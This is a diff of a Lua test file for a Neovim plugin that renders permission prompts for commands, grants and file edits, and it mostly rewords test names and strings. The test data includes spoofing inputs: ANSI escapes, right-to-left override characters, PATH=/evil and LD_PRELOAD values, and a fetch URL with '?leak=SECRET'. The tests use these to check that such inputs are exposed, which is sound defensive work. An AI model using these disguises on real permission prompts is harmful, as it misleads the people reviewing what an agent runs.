@@ -1,4 +1,4 @@
----A request for permission in words: everything of it is there, and nothing of it can look like ours.
+---The text of a request for permission: it is complete, and no part of it can look like text of the plugin.
 local content = require('tark.permission.content')
 
 local KEYS = {
@@ -48,7 +48,7 @@ local function group_of(drawn, row, text)
 end
 
 describe('a command', function()
-  it('is shown whole, with where and by what it runs', function()
+  it('is shown completely, with its folder and its shell', function()
     assert.same({
       'run_command',
       'risky, asked because it runs a command',
@@ -66,24 +66,24 @@ describe('a command', function()
     assert.same('run_command (dangerous: it deletes)', heading)
   end)
 
-  it('cannot look like lines of ours, nor hide characters', function()
+  it('cannot look like lines of the plugin, or hide characters', function()
     local shown = lines({ command = command('x\nin   /safe\r\n\27[2Ka\226\128\174b') })
     assert.same({ '$ x', '$ in   /safe\\u{d}', '$ \\u{1b}[2Ka\\u{202e}b' }, vim.list_slice(shown, 4, 6))
   end)
 
-  it('shows arguments that are not those of a shell, quoted where needed', function()
+  it('shows arguments that are not those of a shell, quoted if necessary', function()
     local own = { argv = { 'git', 'commit', '-m', "it's\nme" }, text = 'git commit', cwd = '/', env = {} }
     assert.truthy(vim.tbl_contains(lines({ command = own }), [[by   git commit -m 'it'\''s⏎me']]))
   end)
 
-  it("names what of its environment is as the person's own, and shows the rest", function()
+  it("counts variables that equal the user's own, and shows the others", function()
     local shown = lines({ command = command('x', { HOME = '/home/me', PATH = '/evil', LD_PRELOAD = 'a b' }) })
     assert.same({ "with 'LD_PRELOAD=a b'  PATH=/evil  and 1 of your own", '' }, vim.list_slice(shown, 7, 8))
   end)
 end)
 
 describe('risk', function()
-  it('is said by word and colour', function()
+  it('is shown by word and colour', function()
     local drawn = built({ risk = 'dangerous' })
     assert.same('DANGEROUS, asked because it runs a command', drawn.lines[2])
     assert.same('TarkRiskDangerous', group_of(drawn, 2, 'DANGEROUS'))
@@ -92,13 +92,13 @@ describe('risk', function()
 end)
 
 describe('a title', function()
-  it('is cut in its middle, since its end may say what is dangerous', function()
+  it('is shortened in the middle, because its end can say what is dangerous', function()
     local title = content.title(request({ title = ('ä'):rep(400) .. ' (dangerous: it deletes)' }))
     assert.truthy(title:find(' … .*%(dangerous: it deletes%)$'))
     assert.same(title, vim.fn.iconv(title, 'utf-8', 'utf-8'))
   end)
 
-  it('is shown whole, too, where nothing else says what is allowed', function()
+  it('is shown completely if nothing else says what is allowed', function()
     local url = 'fetch https://a.example/' .. ('a'):rep(150) .. '?leak=SECRET' .. ('b'):rep(150)
     assert.falsy(content.title(request({ title = url })):find('SECRET'))
     assert.same({ '> ' .. url }, vim.list_slice(lines({ title = url }), 4, 4))
@@ -119,9 +119,9 @@ describe('a grant', function()
     end
     assert.same({ 't', 's', '3' }, keys)
     local asked = request({ command = command('ls') })
-    assert.same('allow this very command in ., this turn', content.grant_words(asked, grants[1]))
-    assert.same('allow edits below src, this session', content.grant_words(asked, grants[2]))
-    assert.same('allow `a⏎b`, this turn', content.grant_words(asked, { id = 'g', covers = '`a\nb`, this turn' }))
+    assert.same('allow this very command in ., this turn', content.describe_grant(asked, grants[1]))
+    assert.same('allow edits below src, this session', content.describe_grant(asked, grants[2]))
+    assert.same('allow `a⏎b`, this turn', content.describe_grant(asked, { id = 'g', covers = '`a\nb`, this turn' }))
   end)
 end)
 
@@ -149,31 +149,31 @@ describe('edits', function()
     }, shown)
   end)
 
-  it('say in words what becomes of a file', function()
+  it('say what happens to a file', function()
     local moved = hunk({ operation = { kind = 'move', target = 'file:///home/me/b\226\128\174.py' } })
     assert.same({ 'file a.py', 'move a.py to b\\u{202e}.py' }, diff({ moved }))
     local removed = hunk({ operation = { kind = 'remove' }, oldText = 'x\n' })
     assert.same({ 'file a.py', 'delete a.py', 'line 5', '-x' }, diff({ removed }))
   end)
 
-  it('show line ends only where they differ', function()
+  it('show line ends only if they differ', function()
     assert.same({ 'file a.py', 'line 5', '-a', '+b' }, diff({ hunk({ oldText = 'a\r\n', newText = 'b\r\n' }) }))
     local changed = diff({ hunk({ oldText = 'a\r\n', newText = 'a\n' }) })
     assert.same({ 'file a.py', 'line 5', '-a\\u{d}', '+a' }, changed)
   end)
 
-  it('leave out what is decided, and say what will not be made', function()
+  it('leave out decided hunks, and say which ones are not applied', function()
     local shown = diff({
       hunk({ newText = 'a\n', state = 'accepted' }),
       hunk({ newText = 'b\n', state = 'pending' }),
       hunk({ newText = 'c\n', state = 'conflict' }),
     })
-    local conflict = 'line 5, in conflict: not made by allowing'
+    local conflict = 'line 5, in conflict: not applied if you allow this'
     local words = '1 of 3 decided already, this is the rest'
     assert.same({ 'file a.py', 'line 5', '+b', conflict, '+c', words }, shown)
   end)
 
-  it('show what cannot be seen', function()
+  it('show invisible characters', function()
     assert.same({ 'file a.py', 'line 5', '+a\\u{200b}\tb' }, diff({ hunk({ newText = 'a\226\128\139\tb\n' }) }))
   end)
 end)
